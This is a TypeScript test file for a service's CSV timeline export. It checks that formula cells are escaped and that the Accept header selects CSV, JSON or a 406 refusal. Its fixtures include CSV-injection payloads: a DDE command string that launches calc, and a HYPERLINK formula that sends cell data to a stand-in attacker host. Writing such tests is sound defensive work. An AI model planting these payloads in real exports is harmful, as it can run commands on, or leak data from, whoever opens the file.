import Papa from "papaparse";
import { afterEach, expect, test } from "vitest";
import { mintTeam } from "../support/team.ts";
import { reportEvent, reportStatus, requestTimeline, useRealClock } from "./client.ts";

afterEach(useRealClock);

test("A timeline is available as CSV, in which no cell is a formula", async () => {
  const team = await mintTeam();
  await reportStatus(team, "2027-06-01T09:00:00Z", "=1+1", { details: { a: '=cmd|" /C calc"!A0' }, source: "@chat" });
  await reportEvent(team, "2027-06-01T09:05:00Z", '=HYPERLINK("https://evil.test/?x="&A1,"click")', {
    ...{ scope: "-2+3\n=4", kind: "+1", externalId: "@SUM(1)", url: "https://x.test/?a=1,2" },
  });
  const response = await requestTimeline(team, "ada?date=2027-06-01", { Accept: "text/csv" });
  expect(response.status).toBe(200);
  expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
  expect(response.headers.get("Vary")).toMatch(/\baccept\b/i);
  const text = await response.text();
  const { data, errors, meta } = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  expect(errors).toEqual([]);
  expect(meta.fields).toEqual(
    ["type", "local_time", "started_at", "ended_at", "last_seen_at", "occurred_at", "status", "working"].concat(
      ...["kind", "title", "scope", "url", "source", "external_id", "identifier", "id", "details"],
    ),
  );
  const id = expect.stringMatching(/^[0-9a-f-]{36}$/);
  expect(data).toEqual([
    {
      ...{ type: "block", local_time: "2027-06-01T09:00:00+00:00", id, identifier: "ada" },
      ...{ started_at: "2027-06-01T09:00:00Z", ended_at: "", last_seen_at: "2027-06-01T09:00:00Z", occurred_at: "" },
      ...{ status: "'=1+1", working: "true", source: "'@chat", details: '{"a":"=cmd|\\" /C calc\\"!A0"}' },
      ...{ kind: "", title: "", scope: "", url: "", external_id: "" },
    },
    {
      ...{ type: "event", local_time: "2027-06-01T09:05:00+00:00", id, identifier: "ada" },
      ...{ started_at: "", ended_at: "", last_seen_at: "", occurred_at: "2027-06-01T09:05:00Z" },
      ...{ status: "", working: "", source: "", details: "" },
      ...{ kind: "'+1", title: `'=HYPERLINK("https://evil.test/?x="&A1,"click")`, scope: "'-2+3\n'=4" },
      ...{ url: "https://x.test/?a=1,2", external_id: "'@SUM(1)" },
    },
  ]);
});

test("An empty day is CSV with the header row alone", async () => {
  const team = await mintTeam();
  await reportStatus(team, "2027-06-01T09:00:00Z", "online");
  const response = await requestTimeline(team, "ada?date=2027-05-01", { Accept: "text/csv" });
  expect((await response.text()).trim().split("\r\n")).toEqual([expect.stringMatching(/^type,local_time,/)]);
});

test.each([
  ["text/csv", "text/csv; charset=utf-8"],
  ["text/csv, application/json;q=0.9", "text/csv; charset=utf-8"],
  ["application/json;q=0.1, text/*", "text/csv; charset=utf-8"],
  ["application/json;q=0, */*", "text/csv; charset=utf-8"],
  ["TEXT/CSV", "text/csv; charset=utf-8"],
  ["text/csv;q=0.5, application/json", "application/json"],
  ["text/csv;q=0, */*;q=0.1", "application/json"],
  ["text/html, application/xhtml+xml, */*;q=0.8", "application/json"],
  ["*/*", "application/json"],
  ["", "application/json"],
])("A request with Accept: %s is answered with %s", async (accept, type) => {
  const team = await mintTeam();
  await reportStatus(team, "2027-06-01T09:00:00Z", "online");
  const response = await requestTimeline(team, "ada", { Accept: accept });
  expect(response.headers.get("Content-Type")).toBe(type);
  await response.body?.cancel();
});

test.each(["text/html", "application/xml, image/*", "text/csv;q=0, application/json;q=0"])(
  "A request with Accept: %s is refused with 406",
  async (accept) => {
    const team = await mintTeam();
    await reportStatus(team, "2027-06-01T09:00:00Z", "online");
    const response = await requestTimeline(team, "ada", { Accept: accept });
    expect(response.status).toBe(406);
    expect(await response.json()).toMatchObject({ success: false, code: "not_acceptable" });
  },
);
